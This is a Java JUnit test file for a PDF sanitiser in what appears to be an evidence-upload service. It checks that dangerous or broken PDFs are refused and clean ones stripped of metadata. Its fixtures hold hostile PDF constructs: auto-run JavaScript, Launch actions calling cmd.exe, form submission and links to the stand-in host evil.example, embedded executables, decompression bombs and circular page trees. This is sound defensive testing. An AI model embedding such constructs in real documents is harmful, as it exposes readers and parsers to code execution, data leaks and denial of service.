package cn.kuaichu.life.evidence;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cn.kuaichu.appeal.AppealRefused;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * PDFs that act by themselves, were cut off, run in circles or unfold without end; and those that only look like it.
 */
class OddDocumentsTest {
  private static final String CHINESE = "(?s).*[一-鿿]{6,}.*[。）]";
  private static final String WORDS = "Lamp at the crossing";
  private Instant began;

  @BeforeEach
  void begin() {
    began = Instant.now();
  }

  /** However it was made, a file takes no longer than its budget says. */
  @AfterEach
  void endsInTime() {
    assertThat(Duration.between(began, Instant.now())).isLessThan(Duration.ofSeconds(60));
  }

  private static void refused(String what, byte[] file, String... reason) {
    var refusal = assertThatThrownBy(() -> CleanFile.of(file)).as(what).isInstanceOf(AppealRefused.class).message()
        .matches(CHINESE);
    for (String words : reason) {
      refusal.contains(words);
    }
  }

  private static String taken(String what, byte[] file) {
    CleanFile clean = CleanFile.of(file);
    assertThat(clean.mediaType()).as(what).isEqualTo("application/pdf");
    assertThat(Documents.words(clean.content())).as(what).contains(WORDS);
    String text = Documents.latin(clean.content());
    assertThat(text).as(what).startsWith("%PDF-1.7").endsWith("%%EOF\n").doesNotContain(Pictures.HIDDEN, "/Metadata",
        "/Info");
    return text;
  }

  @Test
  void takesWhatTheStandardsReadersOpen() throws IOException {
    byte[] letter = Documents.letter(WORDS);
    taken("plain", letter);
    taken("packed objects", Documents.page(WORDS).packedObjects());
    taken("lines before its beginning", concat(Documents.latin("\r\nContent-Type: application/pdf\r\n\r\n"), letter));
    taken("places that are wrong",
        Documents.latin(Documents.latin(letter).replaceFirst("startxref\n\\d+", "startxref\n7")));
    taken("places that are shifted",
        Documents.latin(Documents.latin(letter).replaceFirst("obj\n", "obj % a remark\n")));
    taken("line ends of another system", Documents.latin(Documents.latin(letter).replace("\nxref", "\r\nxref")));
    taken("its length said elsewhere", lengthElsewhere());
    taken("an empty part that says it is packed", Documents.page(WORDS)
        .set(3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents[4 0 R 6 0 R]/Resources<</Font<</F1 5 0 R>>>>>>")
        .stream("/Filter/FlateDecode", "").bytes());
    taken("a page tree of two storeys", Documents.page(WORDS).set(2, "<</Type/Pages/Kids[6 0 R]/Count 1>>")
        .add("<</Type/Pages/Parent 2 0 R/Kids[3 0 R]/Count 1/MediaBox[0 0 100 100]>>").bytes());
  }

  private static byte[] lengthElsewhere() {
    String content = "BT /F1 18 Tf 60 700 Td (" + WORDS + ") Tj ET";
    return Documents.page("").set(4, "<</Length 6 0 R>>\nstream\n" + content + "\nendstream").add("" + content.length())
        .bytes();
  }

  private static byte[] concat(byte[] first, byte[] second) {
    byte[] both = Arrays.copyOf(first, first.length + second.length);
    System.arraycopy(second, 0, both, first.length, second.length);
    return both;
  }

  @Test
  void makesTheSameFileOfTheSameDocument() {
    byte[] packed = Documents.page(WORDS).packedObjects();

    assertThat(CleanFile.of(packed).sha256()).isEqualTo(CleanFile.of(packed).sha256());
  }

  /** A rule is about what a file does and not about what it says; a font may be called as it likes. */
  @ParameterizedTest
  @ValueSource(strings = {"/JavaScript", "/Launch", "/EmbeddedFile", "/AA << /S /JavaScript >>", "/Encrypt",
      "/XFA /RichMedia"})
  void takesADocumentThatOnlySpeaksOfIt(String text) {
    taken(text, Documents.page(WORDS + " " + text).bytes());
    taken(text, Documents.page(WORDS).set(3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources"
        + "<</Font<</F1 5 0 R/JS 5 0 R/AA 5 0 R/PA 5 0 R>>>>>>").bytes());
  }

  @Test
  void keepsAFontHoweverItIsCalled() {
    byte[] letter = Documents.latin(Documents.latin(Documents.letter(WORDS)).replace("/F1", "/PA"));

    assertThat(taken("a font called PA", letter)).contains("/PA");
  }

  private static Map<String, Documents> acting() {
    Map<String, Documents> acting = new LinkedHashMap<>();
    acting.put("JavaScript", Documents.page(WORDS).with(1, "/OpenAction<</S/JavaScript/JS(app.alert(1))>>"));
    acting.put("脚本", Documents.page(WORDS).with(1, "/OpenAction 6 0 R").add("<</S/Java#53cript/JS 7 0 R>>").stream("",
        "app.alert(1)"));
    acting.put("脚本（JavaScript）",
        Documents.page(WORDS).with(1, "/Names<</JavaScript<</Names[(a)6 0 R]>>>>").add("<</S/JavaScript/JS(1)>>"));
    acting.put("启动程序", Documents.page(WORDS).with(1, "/OpenAction<</S/L#61unch/F(cmd.exe)>>"));
    acting.put("打开时自动", Documents.page(WORDS).with(1, "/OpenAction<</S/URI/URI(http://evil.example/)>>"));
    acting.put("自动执行", Documents.page(WORDS).with(3, "/AA<</O<</S/URI/URI(http://evil.example/)>>>>"));
    acting.put("内嵌文件", Documents.page(WORDS).with(1, "/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>")
        .add("<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>").stream("/Type/EmbeddedFile", "MZ"));
    acting.put("XFA", Documents.page(WORDS).with(1, "/AcroForm<</Fields[]/XFA 6 0 R>>").stream("", "<xdp/>"));
    acting.put("多媒体", Documents.page(WORDS).with(3, "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]"));
    acting.put("启动",
        Documents.page(WORDS).with(3, "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(a.exe)>>>>]"));
    acting.put("发送表单",
        Documents.page(WORDS).with(3, "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D[3 0 R/Fit]/Next"
            + "<</S/SubmitForm/F(http://evil.example/)>>>>>>]"));
    acting.put("内嵌",
        Documents.page(WORDS).with(3, "/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>]")
            .add("<</Type/Filespec/EF<</F 7 0 R>>>>").stream("", "MZ"));
    return acting;
  }

  @Test
  void refusesADocumentThatActsByItself() {
    acting().forEach((reason, document) -> {
      refused(reason, document.bytes(), reason, "打印为 PDF");
      refused(reason + ", packed", document.packedObjects(), reason);
      refused(reason + ", without its list of places",
          Documents.latin(Documents.latin(document.bytes()).replaceFirst("startxref\n\\d+", "startxref\n7")), reason);
    });
  }

  @Test
  void leavesBehindWhatStandsBesideThePages() {
    byte[] photograph = Pictures.photograph(1, 40, 30);
    String text = taken("everything beside", Documents.page(WORDS + ") Tj /Im Do (")
        .with(1,
            "/Metadata 6 0 R/OpenAction[3 0 R/Fit]/PieceInfo<</X<</Private(" + Pictures.HIDDEN + ")>>>>/Outlines 7 0 R")
        .with(3, "/Metadata 6 0 R/LastModified(D:2026)/PieceInfo<</X 8 0 R>>/Annots[9 0 R 10 0 R]")
        .set(3,
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/LastModified(" + Pictures.HIDDEN
                + ")/Metadata 6 0 R"
                + "/Annots[9 0 R 10 0 R]/Resources<</Font<</F1 5 0 R>>/XObject<</Im 11 0 R>>>>>>")
        .stream("/Type/Metadata/Subtype/XML", "<x:xmpmeta>" + Pictures.HIDDEN + "</x:xmpmeta>")
        .add("<</Title(" + Pictures.HIDDEN + ")>>")
        .add("<</Private(" + Pictures.HIDDEN + ")>>")
        .add("<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://" + Pictures.HIDDEN + "/)>>>>")
        .add("<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/T(" + Pictures.HIDDEN + ")/Contents(A remark)/M("
            + Pictures.HIDDEN + ")>>")
        .stream(
            "/Type/XObject/Subtype/Image/Width 40/Height 30/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode",
            photograph)
        .add("<</Author(" + Pictures.HIDDEN + ")/Producer(" + Pictures.HIDDEN + ")>>")
        .trailer("/Info 12 0 R/ID[<00><00>]").bytes());

    assertThat(text).contains("A remark", "/DCTDecode").doesNotContain("Exif", "LastModified", "PieceInfo", "evil",
        "/URI");
  }

  @Test
  void dropsEarlierVersionsAndWhatWasHungOn() throws IOException {
    byte[] letter = Documents.page(WORDS).stream("", Pictures.HIDDEN).bytes();

    taken("an object nobody refers to", letter);
    taken("a web page behind its end", Pictures.followedBy(letter, "<script>" + Pictures.HIDDEN + "</script>"));
    taken("many numbers behind its end", Pictures.followedBy(letter, "1".repeat(3_000_000)));
    taken("an archive behind its end", Pictures.followedBy(letter, "PK\u0003\u0004" + Pictures.HIDDEN));
  }

  /** It names a person, and holds only for the bytes that were sent. */
  @Test
  void keepsTheLookOfASealAndNotItsCertificate() {
    String text = taken("a seal", Documents.page(WORDS)
        .with(1, "/AcroForm<</SigFlags 3/Fields[6 0 R]>>")
        .with(3, "/Annots[6 0 R]")
        .add("<</Type/Annot/Subtype/Widget/FT/Sig/T(seal)/Rect[0 0 90 90]/V 7 0 R/AP<</N 8 0 R>>>>")
        .add("<</Type/Sig/Filter/Adobe.PPKLite/Name(" + Pictures.HIDDEN + ")/ByteRange[0 1 2 3]/Contents<00>>>")
        .stream("/Type/XObject/Subtype/Form/BBox[0 0 90 90]", "0 0 90 90 re S").bytes());

    assertThat(text).contains("/AP", "0 0 90 90 re S").doesNotContain("ByteRange", "SigFlags");
  }

  @Test
  void refusesALockedDocumentAndNamesTheWayOut() throws IOException {
    for (String password : List.of("", "secret")) {
      try (PDDocument document = Loader.loadPDF(Documents.letter(WORDS))) {
        document.protect(new StandardProtectionPolicy("owner", password, new AccessPermission()));
        ByteArrayOutputStream written = new ByteArrayOutputStream();
        document.save(written);
        refused("password " + password, written.toByteArray(), "密码或权限限制", "打印为 PDF", "截图");
        refused("rebuilt",
            Documents.latin(Documents.latin(written.toByteArray()).replaceFirst("startxref\\s+\\d+", "startxref\n7")));
      }
    }
    refused("a dictionary of locks that is missing", Documents.page(WORDS).trailer("/Encrypt 99 0 R").bytes(), "密码");
  }

  @Test
  void refusesWhatWasCutOff() {
    byte[] plain = Documents.page(WORDS).bytes();
    byte[] packed = Documents.page(WORDS).packedObjects();
    for (byte[] file : List.of(plain, packed)) {
      for (int percent : new int[] {2, 10, 25, 40, 50, 60, 75, 90, 97}) {
        refused("cut at " + percent + " %", Arrays.copyOf(file, file.length * percent / 100));
      }
    }
    refused("a second version that was cut off", Pictures.followedBy(plain, "3 0 obj\n<</Type/Page/Parent 2 0 R"),
        "不完整");
    refused("made for the web and cut off",
        Documents.latin(Documents.latin(plain).replaceFirst("<<", "<</Linearized 1/L 90000")), "不完整");
  }

  @Test
  void refusesWhatLacksAPart() {
    refused("a page that is missing",
        Documents.page(WORDS).set(2, "<</Type/Pages/Kids[3 0 R 77 0 R]/Count 2>>").bytes(), "不完整");
    refused("content that is missing",
        Documents.page(WORDS).set(3, "<</Type/Page/Parent 2 0 R/Contents 77 0 R>>").bytes(), "不完整");
    refused("a picture that is missing",
        Documents.page(WORDS).set(3, "<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources"
            + "<</XObject<</Im 77 0 R>>>>>>").bytes(),
        "不完整");
    refused("no page", Documents.page(WORDS).set(2, "<</Type/Pages/Kids[]/Count 0>>").bytes(), "不完整");
    refused("no list of pages", Documents.page(WORDS).set(1, "<</Type/Catalog>>").bytes());
    byte[] content = Documents.deflated(Documents.latin("BT (" + WORDS + ") Tj ET ".repeat(50)));
    refused("content that was cut off",
        Documents.page(WORDS).add("<<>>").set(4, "<</Filter/FlateDecode/Length " + (content.length / 2)
            + ">>\nstream\n" + Documents.latin(Arrays.copyOf(content, content.length / 2)) + "\nendstream").bytes(),
        "损坏");
    content[content.length / 2] ^= 0x55;
    content[content.length / 2 + 1] ^= 0x55;
    refused("content that was changed", Documents.page(WORDS).set(4, "<</Filter/FlateDecode/Length " + content.length
        + ">>\nstream\n" + Documents.latin(content) + "\nendstream").bytes());
  }

  @Test
  void refusesCirclesAndWrongCounts() {
    refused("a page tree that leads back", Documents.page(WORDS).set(2, "<</Type/Pages/Kids[2 0 R]/Count 1>>").bytes(),
        "循环");
    refused("two storeys that lead to each other", Documents.page(WORDS).set(2, "<</Type/Pages/Kids[6 0 R]/Count 1>>")
        .add("<</Type/Pages/Kids[2 0 R 3 0 R]/Count 1>>").bytes(), "循环");
    refused("99999999 pages", Documents.page(WORDS).set(2, "<</Type/Pages/Kids[3 0 R]/Count 99999999>>").bytes(),
        "99999999 页", "1 页");
    refused("the same page without end",
        Documents.page(WORDS).set(2, "<</Type/Pages/Kids[" + "3 0 R ".repeat(5000) + "]/Count 5000>>").bytes(),
        "3000 页");
    refused("a length that is its own content", Documents.page("").set(4, "<</Length 4 0 R>>\nstream\nx").bytes());
    refused("earlier places that are these", circleOfPlaces());
    taken("objects that refer to each other",
        Documents.page(WORDS).with(3, "/Group 6 0 R").add("<</S/Transparency/X 7 0 R>>")
            .add("<</Y 6 0 R>>").bytes());
  }

  private static byte[] circleOfPlaces() {
    String letter = Documents.latin(Documents.letter(WORDS));
    int start = letter.indexOf("xref\n");
    return Documents
        .latin(letter.replaceFirst("trailer\n<<", "trailer\n<</Prev " + start).replace("/Kids[3 0 R]", "/Kids[8 0 R]"));
  }

  @Test
  void refusesWhatUnfoldsWithoutEnd() {
    String gigabyte = Documents.latin(Documents.deflated(new byte[300 * 1024 * 1024]));
    refused("content",
        Documents.page(WORDS).set(4, "<</Filter/FlateDecode/Length " + gigabyte.length() + ">>\nstream\n" + gigabyte
            + "\nendstream").bytes(),
        "展开后过大");
    byte[] twice = Documents.deflated(Documents.latin(gigabyte));
    refused("content packed twice",
        Documents.page(WORDS).set(4, "<</Filter[/FlateDecode/FlateDecode]/Length " + twice.length
            + ">>\nstream\n" + Documents.latin(twice) + "\nendstream").bytes(),
        "展开后过大");
    String objects = "7 0 8 10 ";
    refused("objects",
        listed(Documents.deflated(Documents.latin(objects + "<<>>".repeat(3_000_000))), objects.length()), "展开后过大");
    refused("nested lists", Documents.page(WORDS).add("[".repeat(3_000_000)).with(1, "/X 6 0 R").bytes(), "展开后过大");
    refused("deeply nested lists", Documents.page(WORDS).set(4, "[".repeat(100_000)).bytes());
  }

  /** A file of today whose list of objects unfolds; the list of places names it. */
  private static byte[] listed(byte[] objects, int first) {
    StringBuilder file = new StringBuilder("%PDF-1.5\n");
    List<Integer> at = new ArrayList<>();
    for (String object : List.of("<</Type/Catalog/Pages 7 0 R>>",
        "<</Type/ObjStm/N 2/First " + first + "/Filter/FlateDecode/Length "
            + objects.length + ">>\nstream\n" + Documents.latin(objects) + "\nendstream")) {
      at.add(file.length());
      file.append(at.size()).append(" 0 obj\n").append(object).append("\nendobj\n");
    }
    at.add(file.length());
    int[][] places = {{0, 0, 0}, {1, at.get(0), 0}, {1, at.get(1), 0}, {1, at.get(2), 0}, {0, 0, 0}, {0, 0, 0},
        {0, 0, 0}, {2, 2, 0}, {2, 2, 1}};
    StringBuilder list = new StringBuilder();
    for (int[] place : places) {
      list.append((char) place[0]);
      for (int shift = 24; shift >= 0; shift -= 8) {
        list.append((char) (place[1] >> shift & 0xff));
      }
      list.append((char) place[2]);
    }
    file.append("3 0 obj\n<</Type/XRef/Size 9/Root 1 0 R/W[1 4 1]/Length ").append(list.length()).append(">>\nstream\n")
        .append(list)
        .append("\nendstream\nendobj\nstartxref\n").append(at.get(2)).append("\n%%EOF\n");
    return Documents.latin(file.toString());
  }

  @Test
  void refusesAListOfPlacesWithoutEnd() {
    String[] lists = {"/W[0 0 0]/Size 2000000000", "/W[1 0 0]/Size 2000000000/Filter/FlateDecode"};
    for (String entries : lists) {
      byte[] list = entries.contains("Flate") ? Documents.deflated(new byte[4_000_000]) : new byte[1000];
      String file = "%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n";
      refused(entries,
          Documents
              .latin(file + "3 0 obj\n<</Type/XRef/Root 1 0 R" + entries + "/Length " + list.length + ">>\nstream\n"
                  + Documents.latin(list) + "\nendstream\nendobj\nstartxref\n" + file.length() + "\n%%EOF\n"));
    }
  }

  /** Whatever changed: refused with a reason, or a document that can be read. */
  @Test
  void refusesChangedBytesOrKeepsADocument() throws IOException {
    Random random = new Random(20261130);
    int taken = 0;
    int tried = 0;
    for (byte[] document : List.of(Documents.letter(WORDS), Documents.page(WORDS).packedObjects())) {
      for (int i = 0; i < 60; i++) {
        byte[] file = document.clone();
        file[random.nextInt(file.length)] ^= (byte) (1 << random.nextInt(8));
        tried++;
        try (PDDocument kept = Loader.loadPDF(CleanFile.of(file).content())) {
          assertThat(kept.getNumberOfPages()).isEqualTo(1);
          assertThat(kept.getDocumentCatalog().getCOSObject().containsKey(COSName.OPEN_ACTION)).isFalse();
          taken++;
        } catch (AppealRefused refused) {
          assertThat(refused).message().matches(CHINESE);
        }
      }
    }
    assertThat(taken).as("of %d changed files", tried).isBetween(tried / 5, tried - tried / 10);
  }

  @Test
  void goesByContentWhereAFileIsTwoThings() {
    byte[] letter = Documents.letter(WORDS);
    refused("a web page and a PDF", concat(Documents.latin("<html><script>x</script>"), letter), "网页");
    refused("an archive and a PDF", concat(Documents.latin("PK\u0003\u0004\0\0\0\0x.pdf"), letter), "ZIP");
    refused("a film and a PDF", concat(Documents.latin("GIF89a"), letter), "GIF");
    refused("only a beginning", Documents.latin("%PDF-1.7\n%%EOF"));
    refused("only a beginning, at length", Documents.latin("%PDF-1.7\n" + "x".repeat(100_000) + "%%EOF"));
  }
}
